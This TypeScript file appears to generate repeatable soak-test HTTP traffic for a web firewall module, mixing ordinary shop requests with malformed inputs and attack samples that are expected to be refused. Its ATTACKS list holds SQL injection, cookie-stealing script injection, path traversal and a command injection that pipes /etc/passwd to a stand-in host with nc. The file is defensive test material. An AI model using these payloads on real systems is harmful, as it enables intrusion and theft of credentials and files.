/**
 * What a soak sends: requests of many kinds, each made from its number alone, so that a run can be repeated. Names, hosts,
 * paths and values that a client chooses are new in each request: whatever would keep them grows.
 */
import { gzipSync } from "node:zlib";
import { randomFrom } from "../bench/random.ts";
import type { Random } from "../bench/random.ts";

/** `passes` and `refused`: what must become of it; `either`: whatever the module says, if it counts what it says. */
export type Expectation = "passes" | "refused" | "either";

export interface SoakRequest {
  kind: string;
  method: "GET" | "POST";
  /** With the query. */
  path: string;
  /** In lower case, Host first; without Content-Length. */
  headers: [name: string, value: string][];
  /** The body in the pieces that it is sent in; null where there is none. */
  pieces: Buffer[] | null;
  /** The client goes away before the last piece. */
  breaksOff: boolean;
  expect: Expectation;
  /** Counted as `would_deny`: refused only where its route is in block mode. */
  watched: boolean;
}

/** The policy of a soak: everything is refused but what comes to the route that is only watched. */
export const SOAK_POLICY = {
  mode: "block",
  limits: { holdMillis: 60_000 },
  routes: [{ match: { path: "/watched/**" }, mode: "detect" }],
} as const;

const FORM = "application/x-www-form-urlencoded";
const JSON_TYPE = "application/json";
const ATTACKS = [
  "1 UNION SELECT name, password FROM users",
  "' OR '1'='1' -- ",
  "<script>alert(document.cookie)</script>",
  "; cat /etc/passwd | nc evil.example 4444",
  "../../../../../../etc/passwd",
] as const;
const NAMES = ["Anna", "Ben O'Neill", "Chloé", "Dmitri", "Eve & Co.", "Farid", "Grace", "Hiro"] as const;

const ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789";
const word = (random: Random, length: number): string =>
  Array.from({ length }, () => ALPHABET[random.below(ALPHABET.length)]).join("");

/** Cuts a body into up to five pieces, none of them empty. */
function cut(random: Random, body: string | Buffer): Buffer[] {
  const bytes = typeof body === "string" ? Buffer.from(body) : body;
  const cuts = new Set([0, bytes.length]);
  for (let left = random.below(5); left > 0; left--) cuts.add(random.below(bytes.length));
  const ends = [...cuts].sort((left, right) => left - right);
  return ends.slice(1).map((end, index) => bytes.subarray(ends[index], end));
}

function compressed(body: string): Partial<SoakRequest> & { type: string; body: Buffer } {
  const headers: SoakRequest["headers"] = [
    ["host", "shop.example"],
    ["content-encoding", "gzip"],
  ];
  return { type: JSON_TYPE, headers, body: gzipSync(body) };
}

function order(random: Random, note: string): string {
  const lines = Array.from({ length: 1 + random.below(12) }, (_, index) => ({
    sku: `GRD-${random.below(10_000)}`,
    quantity: 1 + random.below(9),
    price: random.below(100_000) / 100,
    gift: index % 3 === 0,
  }));
  return JSON.stringify({ id: word(random, 16), customer: random.pick(NAMES), lines, note });
}

const form = (fields: Record<string, string>): string => new URLSearchParams(fields).toString();

/** Bytes that are no text, percent-encoded. NUL is left out: Envoy refuses such a path before any filter sees it. */
const noise = (random: Random, length: number): string =>
  Array.from({ length }, () => `%${(1 + random.below(255)).toString(16).padStart(2, "0")}`).join("");

type Make = (random: Random) => Partial<SoakRequest> & { type?: string; body?: string | Buffer };

/** The kinds, by how many in a hundred they are. */
const KINDS: readonly [share: number, kind: string, make: Make][] = [
  [30, "get", (random) => ({ path: `/products/${word(random, 8)}?page=${random.below(90)}&q=watering+can` })],
  [
    14,
    "form",
    (random) => ({
      path: "/checkout",
      type: FORM,
      body: form({ name: random.pick(NAMES), email: `${word(random, 9)}@example.com`, comment: "ring twice, please" }),
    }),
  ],
  [14, "json", (random) => ({ path: "/orders", type: JSON_TYPE, body: order(random, "leave it at the door") })],
  [
    5,
    "attack in the query",
    (random) => ({ path: `/search?q=${encodeURIComponent(random.pick(ATTACKS))}`, expect: "refused" }),
  ],
  [
    4,
    "attack in a form",
    (random) => ({ type: FORM, body: form({ a: word(random, 9), b: random.pick(ATTACKS) }), expect: "refused" }),
  ],
  [
    4,
    "attack in JSON",
    (random) => ({ type: JSON_TYPE, body: order(random, random.pick(ATTACKS)), expect: "refused" }),
  ],
  [
    4,
    "attack that is watched",
    (random) => ({ path: "/watched/a", type: JSON_TYPE, body: order(random, random.pick(ATTACKS)), watched: true }),
  ],
  [5, "reset in the body", (random) => ({ type: JSON_TYPE, body: order(random, "on its way"), breaksOff: true })],
  [
    5,
    "hostile host",
    (random) => ({
      headers: [["host", `${word(random, 1 + random.below(60))}.${word(random, 1 + random.below(200))}`]],
    }),
  ],
  [5, "hostile path", (random) => ({ path: `/${noise(random, 1 + random.below(1000))}`, expect: "either" })],
  [
    4,
    "hostile names",
    (random) => ({
      path: `/?${Array.from({ length: 30 }, () => `${word(random, 40)}=1`).join("&")}`,
      headers: [
        ["host", "shop.example"],
        ["cookie", Array.from({ length: 30 }, () => `${word(random, 30)}=${word(random, 8)}`).join("; ")],
        ...Array.from({ length: 40 }, (): [string, string] => [`x-${word(random, 40)}`, word(random, 20)]),
      ],
      expect: "either",
    }),
  ],
  [
    3,
    "deep or broken JSON",
    (random) => ({
      type: JSON_TYPE,
      body: `${"[".repeat(50 + random.below(400))}"${word(random, 20)}`,
      expect: "either",
    }),
  ],
  [
    2,
    "long value",
    (random) => ({ type: JSON_TYPE, body: JSON.stringify({ [word(random, 200)]: word(random, 20_000) }) }),
  ],
  [
    1,
    "encoded body",
    (random) => ({
      type: JSON_TYPE,
      headers: [
        ["host", "shop.example"],
        ["content-encoding", "gzip"],
      ],
      body: word(random, 300),
    }),
  ],
  [2, "compressed body", (random) => compressed(order(random, word(random, 9000)))],
  [
    1,
    "attack in a compressed body",
    (random) => ({ ...compressed(order(random, random.pick(ATTACKS))), expect: "refused" }),
  ],
];

const TOTAL = KINDS.reduce((sum, [share]) => sum + share, 0);

/** The request of that number. */
export function requestAt(index: number): SoakRequest {
  // Neighbouring numbers must not begin alike.
  const random = randomFrom(Math.imul(index + 1, 0x9e3779b1));
  let left = random.below(TOTAL);
  const [, kind, make] = KINDS.find(([share]) => (left -= share) < 0)!;
  const { type, body, headers = [["host", "shop.example"]], ...rest } = make(random);
  return {
    kind,
    method: body === undefined ? "GET" : "POST",
    path: "/",
    headers: type === undefined ? headers : [...headers, ["content-type", type]],
    pieces: body === undefined ? null : cut(random, body),
    breaksOff: false,
    expect: "passes",
    watched: false,
    ...rest,
  };
}
